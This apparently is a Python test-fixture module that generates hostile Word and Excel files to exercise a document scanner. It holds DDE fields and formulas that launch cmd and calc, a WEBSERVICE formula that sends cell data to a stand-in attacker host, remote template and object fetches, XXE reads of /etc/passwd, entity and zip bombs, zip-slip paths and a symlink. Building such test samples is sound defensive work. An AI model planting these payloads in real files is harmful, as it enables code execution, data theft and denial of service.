"""Documents and sheets that run, fetch, hide or swell: a maker for each."""

import bz2
import io
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping
from typing import Any

from tests.hostile_pictures import MARK, SCRIPT, Maker, photo

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CELLS = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCUMENT = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>'


def archive(members: Mapping[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of members."""
    file = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(file, "w", how) as made:
        warnings.simplefilter("ignore")
        for name, content in members.items():
            made.writestr(name, content)
    return file.getvalue()


def relations(*found: tuple[str, str, bool]) -> bytes:
    """Relations, each by kind, target and whether it leads outside."""
    lines = [
        f'<Relationship Id="r{place}" Type="{kind if "://" in kind else f"{RELATION}/{kind}"}" Target="{target}"'
        + (' TargetMode="External"/>' if outside else "/>")
        for place, (kind, target, outside) in enumerate(found)
    ]
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{space}">{"".join(lines)}</Relationships>'.encode()


def parts(main: str = "word/document.xml", kind: str = WORD, **more: bytes) -> dict[str, bytes]:
    """The parts of a document or sheet; further ones by their names, with `__` for a slash and `_xml` for an end."""
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    types = f'<Types xmlns="{space}"><Override PartName="/{main}" ContentType="{kind}"/></Types>'
    named = {name.replace("__", "/"): content for name, content in more.items()}
    return {"[Content_Types].xml": types.encode(), "_rels/.rels": relations(("officeDocument", main, False)), main: DOCUMENT, **named}


def office(extra: Mapping[str, bytes] | None = None, how: int = zipfile.ZIP_DEFLATED, **named: Any) -> bytes:
    """A document with further members."""
    return archive({**parts(**named), **(extra or {})}, how)


def related(*found: tuple[str, str, bool]) -> Maker:
    return lambda: office({"word/_rels/document.xml.rels": relations(*found)})


def entities(place: str) -> Maker:
    """A document in which one word stands for a billion."""
    words = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 9))
    bomb = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "{MARK.decode()}">{words}]><x>&a8;</x>'.encode()
    return lambda: office({place: bomb})


def lying(change: Callable[[bytes], bytes]) -> Maker:
    return lambda: change(office())


def encrypted(whole: bytes) -> bytes:
    """With the bit that says that the first member is locked, in both of its heads."""
    central = whole.index(b"PK\x01\x02")
    first = whole[:6] + b"\x01\0" + whole[8:]
    return first[: central + 8] + b"\x01\0" + first[central + 10 :]


def with_wrong_sum(whole: bytes) -> bytes:
    """With another sum of the first member than it has."""
    central = whole.index(b"PK\x01\x02") + 16
    return whole[:central] + b"\1\2\3\4" + whole[central + 4 :]


def symlinked() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        for name, content in parts().items():
            made.writestr(name, content)
        link = zipfile.ZipInfo("word/media/x")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return file.getvalue()


FORMULAS = (
    *("SUM(A1:A9)/2", 'IF(A1="Ya|Tidak","https://contoh.example/a","b\\c")', "'Antrean (RW 04)'!A1"),
    *("[1]Sheet1!A1", "Tabel1[[#This Row],[Biaya | Rp]]", "'RTD dan image (1)'!B2", 'HYPERLINK("https://contoh.example/","Lihat")'),
    *("RTD!A1", 'HYPERLINK("#Rincian!A1","x")', "'Rapat ''RT'' 3'!A1", 'A1&amp;"""|"""&amp;B1'),
)
SHEET = {"main": "xl/workbook.xml", "kind": CELLS}


def with_type(other: str, name: str = "xl/charts/style1.xml", **named: Any) -> bytes:
    """What the parts of a document or sheet are, one more of which is of another kind."""
    types = parts(**named)["[Content_Types].xml"]
    return types.replace(b"</Types>", f'<Override PartName="/{name}" ContentType="{other}"/></Types>'.encode())


MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"

SPACES = {
    "w": "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
    "x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
    "v": "urn:schemas-microsoft-com:vml",
}
USED = " ".join(f'xmlns:{name}="{space}"' for name, space in SPACES.items())


def text(inside: str, head: str = "") -> bytes:
    """A part of a document or sheet with something in it."""
    return f"{head}<w:document {USED}><w:body>{inside}</w:body></w:document>".encode()


def mark(kind: str) -> str:
    """Where a field begins, where its result follows, or where it ends."""
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def instruct(words: str) -> str:
    """Words of a field."""
    return f'<w:r><w:instrText xml:space="preserve">{words}</w:instrText></w:r>'


def field(*words: str, result: str = "x") -> str:
    """A field whose words are cut into pieces; a piece may be another field."""
    pieces = (word if word.startswith("<") else instruct(word) for word in words)
    return f"{mark('begin')}{''.join(pieces)}{mark('separate')}<w:r><w:t>{result}</w:t></w:r>{mark('end')}"


def simple(words: str) -> str:
    """A field in one word of the document."""
    return f'<w:fldSimple w:instr="{words}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'


def formula(words: str) -> str:
    """A cell with a formula."""
    return f'<x:c r="A1"><x:f>{words}</x:f><x:v>0</x:v></x:c>'


def saying(*inside: str, head: str = "") -> Maker:
    """A document with this in it, each in a paragraph."""
    said = text("".join(f"<w:p>{each}</w:p>" for each in inside), head)
    return lambda: office({"word/document.xml": said})


def counting(words: str) -> Maker:
    """A sheet with a formula."""
    return lambda: office({"xl/worksheets/sheet1.xml": text(formula(words))}, **SHEET)


def elsewhere(name: str, inside: str) -> bytes:
    """A document whose text lies in a part that does not look like text, and is one by what the document says of it."""
    begin = relations(("officeDocument", name, False))
    return office({"[Content_Types].xml": with_type(WORD, name), "_rels/.rels": begin, "word/x.dat": text(inside)})


OFFICE: dict[str, Maker] = {
    "a document with macros": lambda: office({"word/vbaProject.bin": MARK}),
    "a document with macros by another case": lambda: office({"word/VBAPROJECT.BIN": MARK}),
    "a document that says it has macros": lambda: office(kind=MACROS),
    "a sheet with macros": lambda: office({"xl/vbaProject.bin": MARK}, **SHEET),
    "a sheet of the old macros": lambda: office({"xl/macrosheets/sheet1.xml": b"<x/>"}, **SHEET),
    "a document with a control": lambda: office({"word/activeX/activeX1.bin": MARK}),
    "a document with an object": lambda: office({"word/embeddings/oleObject1.bin": MARK}),
    "a document that fetches its template": related(("attachedTemplate", "http://jahat.example/x.dotm", True)),
    "a document that fetches a picture": related(("image", "http://jahat.example/x.png", True)),
    "a document that fetches an object": related(("oleObject", "http://jahat.example/x", True)),
    "a document with a page in place of a part": related(("aFChunk", "x.html", False)),
    "a document of other documents": related(("subDocument", "http://jahat.example/x.docx", True)),
    "a document that links to a file": related(("hyperlink", "file:///etc/passwd", True)),
    "a document that links to a script": related(("hyperlink", "javascript:alert(1)", True)),
    "a document that links to a neighbour": related(("hyperlink", "\\\\jahat\\x", True)),
    "a document with a link to a page": related(("hyperlink", "https://contoh.example/", True)),
    "a sheet that reads another": lambda: office({"xl/_rels/x.rels": relations(("externalLinkPath", "x.xlsx", True))}, **SHEET),
    "a document that asks another program": saying(field("DDEAUTO cmd")),
    "a document that asks another program in one word": saying(simple("DDE cmd /k calc")),
    "a document that asks another program in two pieces": saying(field("DDE", "AUTO cmd")),
    "a document that asks another program in small letters": saying(field("ddeauto cmd")),
    "a document that asks another program over three paragraphs": saying(
        mark("begin") + instruct("d"), instruct("de"), instruct(" cmd") + mark("end")
    ),
    "a document that asks another program from its foot": lambda: office({"word/footer1.xml": text(field("DDE cmd"))}),
    "a document that asks another program by a word that is another field's": saying(field(field("QUOTE 68 68 69"), " cmd")),
    "a document that asks another program once a change is refused": saying(
        f"{mark('begin')}<w:del><w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r></w:del>{mark('end')}"
    ),
    "a document whose text lies where none is looked for": lambda: elsewhere("word/x.dat", field("DDE cmd")),
    "a document whose text lies under a disguised name": lambda: elsewhere("word/x%2Edat", field("DDE cmd")),
    "a document whose field fetches a picture": saying(field(r'INCLUDEPICTURE "\\\\jahat\\x.png"')),
    "a document whose field fetches a text": saying(simple("includetext http://jahat.example/x")),
    "a document whose field opens a neighbour": saying(field(r' HYPERLINK "\\\\jahat\\x" ')),
    "a document whose field runs a script": saying(field('HYPERLINK \\o "Lihat" javascript:alert(1)')),
    "a document whose drawing fetches a picture": saying('<w:pict><v:imagedata src="\\\\jahat\\x.png"/></w:pict>'),
    "a document whose text is no text": lambda: office({"word/document.xml": b"<w:document><w:p></w:document>"}),
    "a document in letters of another coding": saying(head='<?xml version="1.0" encoding="utf-7"?>'),
    "a document of entities in wide letters the other way round": lambda: office(
        {"word/x.xml": b"\xfe\xff" + '<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16-be")}
    ),
    "a document that says in a disguise that it has macros": lambda: office(
        {"[Content_Types].xml": with_type(MACROS.replace("m", "&#109;"), "word/x.xml")}
    ),
    "a sheet whose formula asks another program": counting("cmd|'/c calc'!A0"),
    "a sheet whose formula asks another program between two texts": counting('"a"&amp;cmd|\'"/c calc"\'!A0&amp;"b"'),
    "a sheet whose formula fetches a page": counting('_xlfn.WEBSERVICE("http://jahat.example/"&amp;A2)'),
    "a sheet whose formula reads a neighbour's": counting(r"'\\jahat\[x.xlsx]A'!A1"),
    "a sheet whose formula opens a program": counting('HYPERLINK("file:///c:/windows/system32/calc.exe","Lihat")'),
    "a sheet that asks a database": lambda: office({"xl/connections.xml": text("<x:connections/>")}, **SHEET),
    "a sheet whose old drawing fetches a picture": lambda: office(
        {"xl/drawings/vmlDrawing1.vml": b"<xml><v:imagedata\nSRC = '\\\\jahat\\x.png'><br></xml>"}, **SHEET
    ),
    "a document that writes of such fields and has those of every day": saying(
        *("<w:r><w:t>Jangan pakai dde, ddeauto, atau INCLUDEPICTURE.</w:t></w:r>", simple("PAGE"), field("", result="")),
        *(field("TOC \\o &quot;1-3&quot; \\h", result=field("PAGEREF _Toc1 \\h")), field("=", field("PAGE"), "-1")),
        *(field(' HYPERLINK "https://contoh.example/dde" \\o "file:x" '), field('HYPERLINK \\l "_Toc1"'), field("IF", field("PAGE"), "=1")),
        *(field("ADDIN ZOTERO_ITEM {}"), field("MERGEFIELD Nama")),
    ),
    "a sheet with what is in every sheet": lambda: office(
        {
            "xl/worksheets/sheet1.xml": text("".join(formula(each) for each in FORMULAS)),
            "[Content_Types].xml": with_type("application/vnd.ms-office.chartstyle+xml", **SHEET),
            "xl/charts/style1.xml": b"<x/>",
            "xl/drawings/vmlDrawing1.vml": b'<xml><v:imagedata o:relid="rId1"><br></xml>',
        },
        **SHEET,
    ),
    "a sheet that asks another program": lambda: office({"xl/externalLinks/x.xml": b"<ddeLink/>"}, **SHEET),
    "a document of a billion words": entities("word/x.xml"),
    "a document with a billion relations": entities("word/_rels/document.xml.rels"),
    "a document that reads a file": lambda: office(
        {"word/_rels/document.xml.rels": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}
    ),
    "a document that hides its entities in wide letters": lambda: office(
        {"word/x.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")}
    ),
    "a document that unpacks to a thousand times its size": lambda: office({"word/media/x.bmp": b"\0" * 50_000_000}),
    "a document that unpacks to three hundred megabytes": lambda: office({f"word/x{n}.bmp": b"\0" * 30_000_000 for n in range(10)}),
    "a document of five thousand parts": lambda: office({f"word/{n}.xml": b"<x/>" for n in range(5_000)}),
    "a document with a way out": lambda: office({"../../../../tmp/" + MARK.decode(): b"x"}),
    "a document with a way from the top": lambda: office({"/tmp/" + MARK.decode(): b"x"}),
    "a document with a way of Windows": lambda: office({"..\\..\\" + MARK.decode(): b"x"}),
    "a document with a drive": lambda: office({"C:" + MARK.decode(): b"x"}),
    "a document with a pointer to a file": symlinked,
    "a document that says a part twice": lambda: office({"Word/Document.xml": DOCUMENT}),
    "a locked document": lying(encrypted),
    "a document packed in another way": lambda: office(how=zipfile.ZIP_BZIP2),
    "a document packed in a third way": lambda: office(how=zipfile.ZIP_LZMA),
    "a document with a script behind it": lambda: office() + SCRIPT,
    "a document behind a program": lambda: b"MZ\x90\0" + office(),
    "a document with another sum": lying(with_wrong_sum),
    "half a document": lying(lambda whole: whole[: len(whole) // 2]),
    "an archive": lambda: archive({"x.html": SCRIPT}),
    "a program of Java": lambda: archive({"META-INF/MANIFEST.MF": MARK, "x.class": b"\xca\xfe\xba\xbe"}),
    "a document of another office": lambda: archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}),
    "a document with an archive in it": lambda: office({"word/media/x.png": archive({"x": MARK})}),
    "a document with a program in it": lambda: office({"word/media/x.png": b"MZ\x90\0" + MARK}),
    "a document with an old document in it": lambda: office({"word/media/x.png": b"\xd0\xcf\x11\xe0" + MARK}),
    "a document that begins like a paper": lambda: archive({"%PDF-1.7": MARK, **parts()}, zipfile.ZIP_STORED),
    "a document whose parts are no text": lambda: office({"_rels/.rels": bz2.compress(SCRIPT)}),
    "a document that tells a wrong number of parts": lying(
        lambda whole: whole[: whole.rindex(b"PK\x05\x06") + 8] + struct.pack("<HH", 900, 900) + whole[whole.rindex(b"PK\x05\x06") + 12 :]
    ),
    "a photo named as a part": lambda: office({"word/media/x.jpg": photo()}),
}
